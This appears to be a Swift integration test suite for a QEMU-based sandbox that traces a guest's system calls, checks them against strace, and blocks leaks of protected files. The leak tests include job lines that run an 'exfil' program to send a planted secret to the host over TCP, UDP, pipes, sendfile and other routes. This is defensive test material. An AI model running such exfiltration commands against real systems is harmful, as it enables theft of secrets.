import Foundation
import KanshiGuestKernel
import KanshiVMSensor
import Testing

/// The VM sensor on a real QEMU 10 guest: every system call seen from inside the VMM,
/// checked against strace run inside the same guest; the managed set; no leaks out of the VM.
@Suite(.serialized) struct VMSensorTests {
    static let peers = Tools.available("qemu-system-x86_64", "mkfs.ext4", "strace", "cc", "python3")
    static let why: Comment = "needs QEMU 10 (bookworm-backports), e2fsprogs, strace, a C compiler and python3 (scripts/setup.sh)"

    /// A guest with strace and a dynamically linked program (md5sum) inside, for the comparison.
    static func straceGuest() throws -> String {
        let dir = Paths.root.appendingPathComponent(".build/guest-strace").path
        let build = try run([Paths.root.appendingPathComponent("scripts/guest/build-guest.sh").path,
                             "--add-binary", Tools.which("strace")!, "--add-binary", "/usr/bin/md5sum", dir], timeout: 600)
        try #require(build.ok, "guest build failed: \(build.stderr)")
        return dir
    }

    struct Run {
        var result: RunResult
        var json: [String: Any]
        var events: [[String: Any]]
        var vm: [String: Any] { json["vmSensor"] as? [String: Any] ?? [:] }
        /// The guest's console between two marker lines.
        func console(_ start: String, _ end: String) -> [String] {
            let lines = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
            guard let a = lines.firstIndex(of: start), let b = lines[a...].firstIndex(of: end) else { return [] }
            return Array(lines[(a + 1)..<b])
        }
    }

    /// `kanshi sandbox run --trace LOG --json ARGS -- JOB` on a fresh ext4 disk.
    static func sandbox(_ s: Scratch, guest: String, _ args: [String], job: String, timeout: Double = 300) throws -> Run {
        let disk = s.file("disk-\(UUID().uuidString.prefix(6)).img")
        try makeImage(disk, bytes: 64 << 20)
        #expect(try run(["mkfs.ext4", "-q", "-F", "-b", "4096", disk]).ok)
        let log = disk + ".jsonl"
        try? FileManager.default.createDirectory(atPath: s.file("tmp"), withIntermediateDirectories: true)
        let r = try run([Paths.kanshi, "sandbox", "run", "--log-level", "warning", "--disk", disk, "--guest", guest,
                         "--timeout", "\(Int(timeout - 30))", "--trace", log, "--json"] + args + ["--", job],
                        timeout: timeout, environment: ["TMPDIR": s.file("tmp") + "/"])
        // The result (pretty-printed JSON) follows the console.
        let lines = r.stdout.split(separator: "\n", omittingEmptySubsequences: false)
        let jsonText = lines.lastIndex(of: "{").map { lines[$0...].joined(separator: "\n") } ?? "{}"
        let json = (try? JSONSerialization.jsonObject(with: Data(jsonText.utf8))) as? [String: Any] ?? [:]
        let text = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
        let events = text.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        return Run(result: r, json: json, events: events)
    }

    /// strace's calls (name, first quoted string) of its first process, from its execve on.
    static func straceCalls(_ lines: [String]) -> (pid: Int, calls: [(String, String?)]) {
        let re = try! NSRegularExpression(pattern: #"^(\d+)\s+([a-z_0-9]+)\((.*)$"#)
        var pid = -1
        var calls: [(String, String?)] = []
        for l in lines {
            guard let m = re.firstMatch(in: l, range: NSRange(l.startIndex..., in: l)) else { continue }
            let p = Int(l[Range(m.range(at: 1), in: l)!])!
            if pid < 0 { pid = p }
            guard p == pid else { continue }
            let rest = String(l[Range(m.range(at: 3), in: l)!])
            var path: String?
            if let q = rest.firstIndex(of: "\""), let e = rest[rest.index(after: q)...].firstIndex(of: "\"") {
                path = String(rest[rest.index(after: q)..<e])
            }
            calls.append((String(l[Range(m.range(at: 2), in: l)!]), path))
        }
        return (pid, calls)
    }

    /// Calls strace names with a path first (the sensor's `path` must equal it when absolute).
    static let pathCalls: Set<String> = ["execve", "openat", "open", "access", "newfstatat", "stat", "lstat", "readlink", "statx"]

    /// The VM sensor's calls of `pid` from its exec of `exe` on, compared with strace's.
    static func compare(_ run: Run, strace lines: [String], exe: String) {
        let (pid, expected) = straceCalls(lines)
        #expect(pid > 0 && expected.count > 5, "no strace output: \(lines.prefix(5))")
        let mine = run.events.filter { $0["pid"] as? Int == pid && $0["ev"] as? String != "managed" && $0["call"] != nil }
        guard let start = mine.firstIndex(where: { $0["ev"] as? String == "exec" && $0["path"] as? String == exe }) else {
            Issue.record("the sensor logged no exec of \(exe) by pid \(pid)")
            return
        }
        let got = mine[start...].map { ($0["call"] as! String, $0["path"] as? String) }
        #expect(got.map(\.0) == expected.map(\.0), "call sequences differ for pid \(pid) (\(exe)):\nstrace: \(expected.map(\.0))\nsensor: \(got.map(\.0))")
        for (a, b) in zip(expected, got) where pathCalls.contains(a.0) {
            if let p = a.1, p.hasPrefix("/") { #expect(b.1 == p, "\(a.0): strace \(p), sensor \(b.1 ?? "nil")") }
        }
    }

    static let straceJob = """
        echo KANSHI-SECRET-1 > /mnt/secret
        strace -f -qq -o /tmp/a.txt md5sum /init
        strace -f -qq -o /tmp/b.txt cat /proc/version
        strace -f -qq -o /tmp/c.txt ls -l /
        cat /proc/self/stat; echo
        cat /mnt/secret > /mnt/copy; cat /mnt/copy | wc -c
        cat /sys/devices/system/cpu/vulnerabilities/meltdown
        for f in a b c; do echo "==$f"; cat /tmp/$f.txt; echo "==end"; done
        """

    static func checkStraceAndIdentity(_ r: Run) {
        #expect(r.result.status == 0, "\(r.result.stdout.suffix(2000))\(r.result.stderr.suffix(1500))")
        #expect(r.vm["calibrated"] as? Bool == true, "\(r.vm)")
        #expect(r.vm["dropped"] as? Int == 0)
        #expect((r.vm["calls"] as? Int ?? 0) > 1000)
        // Guest memory was read from the RAM mapping (page walks checked against QEMU's reads first).
        #expect(r.vm["guestMemory"] as? String == "direct", "\(r.vm)")
        // And the calls' pt_regs were found from the per-cpu top of stack, with no register read
        // (checked against the register first): the strace comparisons below hold on that path.
        #expect(r.vm["stackTop"] as? Bool == true, "\(r.vm)")
        #expect(r.events.allSatisfy { $0["vm"] as? String == "sandbox" })
        compare(r, strace: r.console("==a", "==end"), exe: "/bin/md5sum")
        compare(r, strace: r.console("==b", "==end"), exe: "/bin/cat")
        compare(r, strace: r.console("==c", "==end"), exe: "/bin/ls")
        // Identity from the guest kernel's own view: cat prints its pid from /proc/self/stat.
        let stat = r.result.stdout.split(separator: "\n").first { $0.contains(" (cat) ") }
        let pid = stat.flatMap { Int($0.split(separator: " ")[0]) }
        #expect(pid != nil, "no /proc/self/stat line")
        #expect(r.events.contains { $0["pid"] as? Int == pid && $0["ev"] as? String == "open" && $0["path"] as? String == "/proc/self/stat" })
        #expect(r.events.contains { $0["pid"] as? Int == pid && $0["ev"] as? String == "exec" && ($0["argv"] as? [String]) == ["cat", "/proc/self/stat"] })
        // The managed set: the reader of the secret, the copy it wrote, the reader of the copy, and the pipe's reader.
        let managed = r.vm["managedProcesses"] as? [[String: Any]] ?? []
        let whys = managed.compactMap { $0["why"] as? String }
        #expect(whys.contains("read protected file /mnt/secret"), "\(whys)")
        #expect(whys.contains { $0.hasPrefix("read managed file /mnt/copy") }, "\(whys)")
        #expect(whys.contains { $0.hasPrefix("received data through pipe:") }, "\(whys)")
        let files = (r.vm["managedFiles"] as? [[String: Any]] ?? []).compactMap { $0["path"] as? String }
        #expect(files.contains("/mnt/copy"))
    }

    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func everyCallAsStraceSeesItOneVCPU() throws {
        let s = Scratch("vmsensor")
        let r = try Self.sandbox(s, guest: try Self.straceGuest(), ["--all-calls", "--protect", "/mnt/secret"], job: Self.straceJob)
        Self.checkStraceAndIdentity(r)
        #expect(r.vm["pageTableIsolation"] as? Bool == false)
        // KASLR: another boot, another slide; the sensor finds it each time.
        let again = try Self.sandbox(s, guest: try Self.straceGuest(), [], job: "true")
        #expect(again.vm["calibrated"] as? Bool == true)
        #expect(again.vm["kaslrSlide"] as? String != nil && again.vm["kaslrSlide"] as? String != r.vm["kaslrSlide"] as? String,
                "two boots, same slide \(String(describing: r.vm["kaslrSlide"])): is KASLR off?")
    }

    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func everyCallAsStraceSeesItTwoVCPUsWithPageTableIsolation() throws {
        let s = Scratch("vmsensor-smp")
        let r = try Self.sandbox(s, guest: try Self.straceGuest(),
                                 ["--all-calls", "--protect", "/mnt/secret", "--smp", "2", "--cpu", "qemu64,vendor=GenuineIntel"],
                                 job: Self.straceJob)
        Self.checkStraceAndIdentity(r)
        #expect(r.result.stdout.contains("Mitigation: PTI"), "the guest kernel did not turn page-table isolation on")
        #expect(r.vm["pageTableIsolation"] as? Bool == true)
        #expect(r.vm["vcpus"] as? Int == 2)
    }

    /// A listener on the host's loopback (standing for the Internet): TCP on 127.0.0.1 and ::1, UDP on 127.0.0.1.
    /// It ends when its standard input closes (the test process ended) or is killed; SIGTERM will not
    /// do, since a child inherits the blocked signals of the test thread that spawned it.
    final class Listener {
        let process = Process()
        let out: String
        let port: Int
        init(_ s: Scratch) throws {
            out = s.file("received.txt")
            port = Int.random(in: 40_000...49_000)
            let script = """
                import socket, threading, sys, time
                port = int(sys.argv[1]); out = open(sys.argv[2], 'ab', buffering=0)
                def serve(c):
                    c.settimeout(5)
                    try:
                        while True:
                            d = c.recv(65536)
                            if not d: break
                            out.write(d + b'\\n')
                    except Exception: pass
                    c.close()
                def tcp(fam, addr):
                    s = socket.socket(fam, socket.SOCK_STREAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    s.bind((addr, port)); s.listen(64)
                    while True:
                        c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
                def udp():
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', port))
                    while True:
                        d, _ = s.recvfrom(65536); out.write(d + b'\\n')
                for t in (lambda: tcp(socket.AF_INET, '127.0.0.1'), lambda: tcp(socket.AF_INET6, '::1'), udp):
                    threading.Thread(target=t, daemon=True).start()
                print('ready', flush=True)
                sys.stdin.read()
                """
            process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
            process.arguments = ["-c", script, "\(port)", out]
            let pipe = Pipe()
            process.standardOutput = pipe
            process.standardInput = input
            // Not the test's own output: a listener left behind would hold it open.
            process.standardError = FileHandle.nullDevice
            try process.run()
            _ = pipe.fileHandleForReading.availableData  // "ready"
        }
        private let input = Pipe()
        var received: String { (try? String(contentsOfFile: out, encoding: .utf8)) ?? "" }
        deinit {
            try? input.fileHandleForWriting.close()
            guard process.processIdentifier != 0 else { return }  // never started
            if process.isRunning { kill(process.processIdentifier, SIGKILL) }
            process.waitUntilExit()
        }
    }

    static let routes = ["tcp", "sendto", "sendmsg", "udp", "ipv6", "early", "fork", "exec", "pipe", "sendfile", "splice"]

    static func exfilJob(port: Int) -> String {
        """
        echo KANSHI-SECRET-7f3a > /mnt/secret; echo hello-public > /mnt/public
        for r in \(routes.joined(separator: " ")); do exfil $r /mnt/secret 10.0.2.2 \(port); done
        exfil copy /mnt/secret 10.0.2.2 \(port) /tmp/copy; exfil tcp /tmp/copy 10.0.2.2 \(port)
        sleep 4; exfil tcp /mnt/public 10.0.2.2 \(port); exfil udp /mnt/public 10.0.2.2 \(port)
        """
    }

    static func exfilProgram(_ s: Scratch) throws -> String {
        let out = s.file("exfil")
        let cc = try run(["cc", "-static", "-O2", "-o", out, Paths.root.appendingPathComponent("Tests/KanshiIntegrationTests/Fixtures/exfil.c").path])
        try #require(cc.ok, "cc -static exfil.c: \(cc.stderr)")
        return out
    }

    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func everyRouteLeaksWithoutProtection() throws {
        let s = Scratch("vmsensor-leak")
        let listener = try Listener(s)
        let r = try Self.sandbox(s, guest: try SandboxTests.guest(), ["--net", "--add", try Self.exfilProgram(s)], job: Self.exfilJob(port: listener.port))
        #expect(r.result.status == 0, "\(r.result.stdout.suffix(2000))\(r.result.stderr.suffix(1000))")
        usleep(500_000)
        let got = listener.received
        for route in Self.routes.map({ $0 == "exec" ? "exec-tcp" : $0 }) {
            #expect(got.contains("\(route):KANSHI-SECRET-7f3a") || got.contains("\(route):\nKANSHI-SECRET-7f3a"),
                    "route \(route) did not reach the host without --protect: the test would prove nothing\n\(got)")
        }
        #expect(got.components(separatedBy: "tcp:KANSHI-SECRET-7f3a").count - 1 >= 2, "the copy's route did not leak")
    }

    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func noRouteLeaksWithProtection() throws {
        let s = Scratch("vmsensor-noleak")
        let listener = try Listener(s)
        let pcap = s.file("guest.pcap")
        let r = try Self.sandbox(s, guest: try SandboxTests.guest(),
                                 ["--net", "--add", try Self.exfilProgram(s), "--protect", "/mnt/secret", "--pcap", pcap],
                                 job: Self.exfilJob(port: listener.port))
        #expect(r.result.status == 0, "\(r.result.stdout.suffix(2000))\(r.result.stderr.suffix(1000))")
        usleep(500_000)
        let got = listener.received
        #expect(!got.contains("KANSHI-SECRET-7f3a"), "the secret reached the host:\n\(got)")
        #expect(got.contains("tcp:hello-public") && got.contains("udp:hello-public"), "benign traffic after the managed processes ended was blocked:\n\(got)")
        #expect((r.vm["framesDropped"] as? Int ?? 0) > 0)
        let blocked = r.events.filter { $0["ev"] as? String == "blocked" && $0["call"] as? String == "net" }
        #expect(blocked.count >= Self.routes.count - 3, "\(blocked.count) blocked events")
        #expect(blocked.allSatisfy { ($0["reason"] as? String ?? "").contains("managed") })
        let capture = readFile(pcap)
        #expect(capture.count > 24 && Array(capture.prefix(4)) == [0xd4, 0xc3, 0xb2, 0xa1], "no pcap written")
    }

    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func killDashNineLeavesNothingBehind() throws {
        let s = Scratch("vmsensor-kill")
        let disk = s.file("disk.img")
        try makeImage(disk, bytes: 64 << 20)
        #expect(try run(["mkfs.ext4", "-q", "-F", "-b", "4096", disk]).ok)
        try FileManager.default.createDirectory(atPath: s.file("tmp"), withIntermediateDirectories: true)
        let p = Process()
        p.executableURL = URL(fileURLWithPath: Paths.kanshi)
        p.arguments = ["sandbox", "run", "--log-level", "warning", "--disk", disk, "--guest", try SandboxTests.guest(), "--net",
                       "--trace", s.file("log.jsonl"), "--", "echo STARTED; sleep 120"]
        p.environment = ProcessInfo.processInfo.environment.merging(["TMPDIR": s.file("tmp") + "/"]) { $1 }
        let out = Pipe()
        p.standardOutput = out
        p.standardError = FileHandle.nullDevice
        try p.run()
        var seen = ""
        let deadline = Date().addingTimeInterval(120)
        while !seen.contains("STARTED") && Date() < deadline { seen += String(decoding: out.fileHandleForReading.availableData, as: UTF8.self) }
        #expect(seen.contains("STARTED"))
        let pid = p.processIdentifier
        kill(pid, SIGKILL)
        p.waitUntilExit()
        usleep(3_000_000)
        let left = (try? FileManager.default.contentsOfDirectory(atPath: s.file("tmp"))) ?? []
        #expect(left.isEmpty, "left behind in TMPDIR: \(left)")
        let rings = ((try? FileManager.default.contentsOfDirectory(atPath: "/dev/shm")) ?? []).filter { $0.hasPrefix("kanshi-vmi-\(pid)-") }
        #expect(rings.isEmpty, "rings left in /dev/shm: \(rings)")
        let ps = try run(["ps", "-eo", "args"])
        #expect(!ps.stdout.contains(s.file("tmp")), "a QEMU of the killed run is still there")
    }

    /// A flood of calls through a small ring: kanshi falls behind, the guest is held, and not one
    /// record is lost, so the open of the secret after the flood still makes its reader managed.
    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func aFloodOfCallsLosesNothing() throws {
        let s = Scratch("vmsensor-flood")
        let bytes = 40_000
        let r = try Self.sandbox(s, guest: try SandboxTests.guest(), ["--all-calls", "--ring-size", "64K", "--protect", "/mnt/secret"],
                                 job: "echo KANSHI-SECRET > /mnt/secret; dd if=/dev/zero of=/dev/null bs=1 count=\(bytes) && cat /mnt/secret")
        #expect(r.result.status == 0, "\(r.result.stdout.suffix(1500))")
        #expect(r.vm["dropped"] as? Int == 0, "\(r.vm)")
        #expect((r.vm["ringWaits"] as? Int ?? 0) > 0, "a 64 KiB ring never filled: \(r.vm)")
        // dd's one-byte reads of /dev/zero and writes to /dev/null, every one of them (busybox runs
        // dd in the shell's child without an exec: found by its open).
        let dd = r.events.first { $0["ev"] as? String == "open" && $0["path"] as? String == "/dev/zero" }?["pid"] as? Int
        let mine = r.events.filter { $0["pid"] as? Int == dd && $0["bytes"] as? Int == 1 }
        #expect(mine.filter { $0["ev"] as? String == "read" && $0["path"] as? String == "/dev/zero" }.count == bytes)
        #expect(mine.filter { $0["ev"] as? String == "write" && $0["path"] as? String == "/dev/null" }.count == bytes)
        let whys = (r.vm["managedProcesses"] as? [[String: Any]] ?? []).compactMap { $0["why"] as? String }
        #expect(whys.contains("read protected file /mnt/secret"), "\(whys)")
    }

    /// The entropy of what was written, read from the guest's memory at each write: random data
    /// closes near 8 bits per byte, zeros near 0, text in between; the bytes are the file's.
    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func writtenDataCarriesItsEntropy() throws {
        let s = Scratch("vmsensor-entropy")
        let r = try Self.sandbox(s, guest: try SandboxTests.guest(), [],
                                 job: "head -c 300000 /dev/urandom > /mnt/random; head -c 300000 /dev/zero > /mnt/zeros; "
                                    + "for i in $(seq 1 400); do echo the quick brown fox jumps over the lazy dog $i; done > /mnt/text")
        #expect(r.result.status == 0, "\(r.result.stdout.suffix(1500))")
        func closed(_ path: String) -> [String: Any]? {
            r.events.last { $0["ev"] as? String == "close" && $0["path"] as? String == path && $0["bytes"] != nil }
        }
        let random = try #require(closed("/mnt/random"), "\(r.events.filter { $0["ev"] as? String == "close" }.suffix(10))")
        let zeros = try #require(closed("/mnt/zeros"))
        let text = try #require(closed("/mnt/text"))
        #expect(random["bytes"] as? Int == 300_000 && zeros["bytes"] as? Int == 300_000)
        #expect((random["entropy"] as? Double ?? 0) > 7.9, "\(random)")
        #expect((zeros["entropy"] as? Double ?? 9) < 0.01, "\(zeros)")
        let t = text["entropy"] as? Double ?? 0
        #expect(t > 3 && t < 5.5, "\(text)")
    }

    /// The 32-bit entries: a 32-bit program (the fast path: sysenter on an Intel model, the 32-bit
    /// syscall on AMD) and `int 0x80` from a 64-bit one, with page-table isolation on and off.
    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func thirtyTwoBitCallsAreSeen() throws {
        let s = Scratch("vmsensor-32")
        let fixtures = Paths.root.appendingPathComponent("Tests/KanshiIntegrationTests/Fixtures").path
        let cc32 = try run(["cc", "-m32", "-static", "-O2", "-o", s.file("read32"), fixtures + "/read32.c"])
        try #require(cc32.ok, "cc -m32 (gcc-multilib) failed: \(cc32.stderr)")
        let cc80 = try run(["cc", "-static", "-O2", "-o", s.file("int80"), fixtures + "/int80.c"])
        try #require(cc80.ok, "\(cc80.stderr)")
        for cpu in ["qemu64", "qemu64,vendor=GenuineIntel"] {
            let r = try Self.sandbox(s, guest: try SandboxTests.guest(),
                                     ["--cpu", cpu, "--protect", "/mnt/secret", "--add", s.file("read32"), "--add", s.file("int80")],
                                     job: "echo KANSHI-SECRET > /mnt/secret; read32 /mnt/secret; int80 /mnt/secret")
            #expect(r.result.status == 0, "\(r.result.stdout.suffix(1500))")
            let line = r.result.stdout.split(separator: "\n").first { $0.hasPrefix("read32 pid ") } ?? ""
            let pid32 = Int(line.split(separator: " ").dropFirst(2).first ?? "")
            #expect(line.contains("fd 3 read 14"), "read32 did not read the secret (\"KANSHI-SECRET\\n\", 14 bytes): \(line)")
            let opens = r.events.filter { $0["ev"] as? String == "open" && $0["path"] as? String == "/mnt/secret" }
            // 32-bit glibc opens with openat (i386 call 295); int80.c uses open (i386 call 5).
            #expect(opens.contains { $0["pid"] as? Int == pid32 && $0["call"] as? String == "openat" && $0["fd"] as? Int == 3 },
                    "\(cpu): the 32-bit open of pid \(pid32 ?? -1) and its result were not seen: \(opens)")
            #expect(r.result.stdout.contains("int80 open 3 close 0"))
            #expect(opens.contains { $0["pid"] as? Int != pid32 && $0["call"] as? String == "open" && $0["fd"] as? Int == 3 },
                    "\(cpu): the int 0x80 open was not seen: \(opens)")
            let managed = (r.vm["managedProcesses"] as? [[String: Any]] ?? []).compactMap { $0["exe"] as? String }
            #expect(managed.contains { $0.hasSuffix("read32") } && managed.contains { $0.hasSuffix("int80") }, "\(cpu): \(managed)")
        }
    }

    @Test(.enabled(if: peers, why), .timeLimit(.minutes(10)))
    func aKernelWithoutBTFIsNamedClearly() throws {
        let guest = try SandboxTests.guest()
        let kernel = try GuestKernel(path: guest + "/vmlinuz")
        var bytes = kernel.elf.bytes
        // Rename the .BTF section (in the section-name string table) so the image has none.
        let data = Data(bytes)
        let range = try #require(data.range(of: Data("\0.BTF\0".utf8), options: .backwards), "no .BTF section name in the image")
        bytes[range.lowerBound + 2] = UInt8(ascii: "X")
        let damaged = try GuestKernel(bytes: bytes, path: "no-btf-vmlinux")
        #expect {
            _ = try VMSensorKernel(kernel: damaged)
        } throws: { error in
            "\(error)".contains("BTF")
        }
    }
}
